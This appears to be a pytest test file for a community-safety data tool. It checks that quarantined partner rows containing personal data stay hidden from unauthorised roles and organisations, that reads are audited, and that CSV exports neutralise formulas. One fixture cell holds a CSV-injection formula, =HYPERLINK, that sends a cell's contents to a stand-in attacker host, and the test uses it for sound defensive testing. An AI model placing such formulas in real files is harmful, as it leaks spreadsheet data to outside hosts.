"""Quarantined rows of a partner's file are personal data as they stand: only the analysts
and administrators of the organisation that loaded it see them, each read audited; everyone
else (and the web page, where nobody signs in yet) sees the rows of public files and how many
others are hidden. `sara quarantine list|export --as`. SQLite and PostgreSQL."""

from __future__ import annotations

import csv

import pytest

from sara.access import audit, users
from sara.intake.load import load_police_uk
from sara.intake.mapped import load_events
from sara.services import Context, data
from tests.cli import PASSWORD, err_json, ok_json
from tests.conftest import FIXTURES

MAPPING = """
source = "Bolsover ASB log"

[columns]
source_id = "Ref"
category = "Type"
location = "Where"
victim = "Complainant"

[time]
occurred = "When"
format = "%Y-%m-%d %H:%M"

[coordinates]
x = "Easting"
y = "Northing"
crs = "EPSG:27700"
"""
LOG = """Ref,Type,When,Easting,Northing,Where,Complainant
A1,Noise,2025-03-01 22:10,447500,370100,Castle Street,Jordan Quill
A2,Noise,2025-03-02 23:00,not a number,370100,"12 Larch Row, tel 07700 900123",=HYPERLINK("http://evil.example/?"&A1)
A3,Graffiti,yesterday,447510,370120,Market Place,Sam Ode 07700 900456
"""
SECRETS = ("07700 900123", "07700 900456", "Larch Row", "HYPERLINK")


@pytest.fixture
def loaded(engine, tmp_path):
    for name, kind in (("Derbyshire Police", "police"), ("Bolsover DC", "council")):
        users.add_organisation(engine, name, kind)
    for name, org, role in (("police.admin", "Derbyshire Police", "administrator"), ("police.analyst", "Derbyshire Police", "analyst"),
                            ("police.pc", "Derbyshire Police", "problem_owner"), ("council.analyst", "Bolsover DC", "analyst")):  # fmt: skip
        users.add_user(engine, name, org, role, PASSWORD)
    (tmp_path / "log.toml").write_text(MAPPING)
    (tmp_path / "log.csv").write_text(LOG)
    report = load_events(engine, [str(tmp_path / "log.csv")], str(tmp_path / "log.toml"))  # by the operator: the host's file
    assert report.to_dict()["quarantined"] == 2
    street = (FIXTURES / "2025-01-derbyshire-street.csv").read_text().splitlines()
    bad = tmp_path / "2025-01-derbyshire-street.csv"
    bad.write_text("\n".join([street[0], street[1], street[2].replace("Derbyshire Constabulary,", "Derbyshire Constabulary,", 1).rsplit(",", 3)[0]]) + "\n")
    assert load_police_uk(engine, [str(bad)]).to_dict()["quarantined"] == 1
    return engine, tmp_path


def ctx(engine, username=None):
    return Context(engine, users.get_actor(engine, username) if username else None)


def leaked(obj) -> list[str]:
    return [s for s in SECRETS if s in repr(obj)]


def test_nobody_signed_in_sees_public_rows_and_a_count_of_the_others(loaded):
    engine, _ = loaded
    r = data.quarantine(ctx(engine))
    assert r["total"] == 1 and r["rows"][0]["kind"] == "street" and r["not_shown"] == 2
    assert leaked(r) == [] and "personal data" in r["not_shown_why"]


@pytest.mark.parametrize("reader", ["police.pc", "council.analyst"])
def test_other_roles_and_other_organisations_see_no_partner_rows(loaded, reader):
    engine, _ = loaded
    before = audit.count(engine, action="read", subject_type="quarantine")
    r = data.quarantine(ctx(engine, reader))
    assert r["not_shown"] == 2 and leaked(r) == []
    assert audit.count(engine, action="read", subject_type="quarantine") == before


@pytest.mark.parametrize("reader", ["police.analyst", "police.admin"])
def test_the_loading_organisations_analysts_and_administrators_see_them_audited_per_file(loaded, reader):
    engine, _ = loaded
    r = data.quarantine(ctx(engine, reader), purpose="fixing the ASB log export")
    assert r["total"] == 3 and r["not_shown"] == 0 and leaked(r)
    assert [x["line"] for x in r["rows"] if x["kind"] == "events"] == [3, 4]
    assert audit.count(engine, action="read", subject_type="quarantine", actor_username=reader, purpose="fixing the ASB log export") == 1
    assert audit.verify(engine)[0]


def test_the_commands_take_as_and_the_export_neutralises_formulas(loaded, db_url):
    engine, tmp_path = loaded
    public = ok_json("quarantine", "list", "--db", db_url)
    assert public["not_shown"] == 2 and leaked(public) == []
    out = tmp_path / "q.csv"
    mine = ok_json("quarantine", "export", "--csv", str(out), "--as", "police.analyst", "--db", db_url)
    assert mine["rows"] == 3
    cells = [c for row in csv.reader(out.open(newline="")) for c in row]
    assert any("HYPERLINK" in c for c in cells) and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert audit.count(engine, action="export", subject_type="quarantine", actor_username="police.analyst") == 1
    theirs = ok_json("quarantine", "export", "--csv", str(out), "--as", "council.analyst", "--db", db_url)
    assert theirs == {"rows": 1, "csv": str(out), "not_shown": 2} and leaked(out.read_text()) == []


def test_the_web_page_shows_no_partner_row(loaded):
    from fastapi.testclient import TestClient

    from sara.web.app import create_app
    from tests.web import sign_in

    engine, _ = loaded
    c = TestClient(create_app(engine))
    assert sign_in(c, "police.pc", PASSWORD).status_code == 303  # signed in, but no reader of raw rows
    page = c.get("/quarantine").text
    assert leaked(page) == [] and "not shown here" in page and "Jordan" not in page


def test_a_partner_loads_its_own_export_and_only_it_sees_the_raw_rows(engine, db_url, tmp_path):
    for name, kind in (("Derbyshire Police", "police"), ("Bolsover DC", "council")):
        users.add_organisation(engine, name, kind)
    users.add_user(engine, "police.analyst", "Derbyshire Police", "analyst", PASSWORD)
    users.add_user(engine, "council.analyst", "Bolsover DC", "analyst", PASSWORD)
    users.add_user(engine, "council.viewer", "Bolsover DC", "public_viewer", PASSWORD)
    (tmp_path / "log.toml").write_text(MAPPING)
    (tmp_path / "log.csv").write_text(LOG)
    args = ("load", "events", str(tmp_path / "log.csv"), "--mapping", str(tmp_path / "log.toml"), "--db", db_url)
    assert "not allowed" in err_json(*args, "--as", "council.viewer")
    assert ok_json(*args, "--as", "council.analyst")["quarantined"] == 2
    assert leaked(data.quarantine(ctx(engine, "council.analyst"))) and data.quarantine(ctx(engine, "council.analyst"))["not_shown"] == 0
    police = data.quarantine(ctx(engine, "police.analyst"))
    assert police["not_shown"] == 2 and leaked(police) == []  # the host's analyst is no reader of the council's rows
    assert "another organisation" in err_json(*args, "--as", "police.analyst")  # nor may the police load into the council's source


def test_the_quarantine_page_in_headless_chromium_hides_partner_rows(sqlite_url, tmp_path, page):
    from sara.store.engine import connect
    from tests import browser
    from tests.web import browser_sign_in, walk

    engine = connect(sqlite_url)
    users.add_organisation(engine, "Derbyshire Police", "police")
    users.add_user(engine, "police.pc", "Derbyshire Police", "problem_owner", PASSWORD)
    (tmp_path / "log.toml").write_text(MAPPING)
    (tmp_path / "log.csv").write_text(LOG)
    load_events(engine, [str(tmp_path / "log.csv")], str(tmp_path / "log.toml"))
    engine.dispose()
    with browser.serve(sqlite_url) as base:
        browser_sign_in(page, base, "police.pc", PASSWORD, next_page="/quarantine")
        dom = page.content()
        walk(page, "quarantine-hidden")
    assert "<strong>2</strong> rows of force or partner files are not shown here" in dom and leaked(dom) == [] and "Quill" not in dom
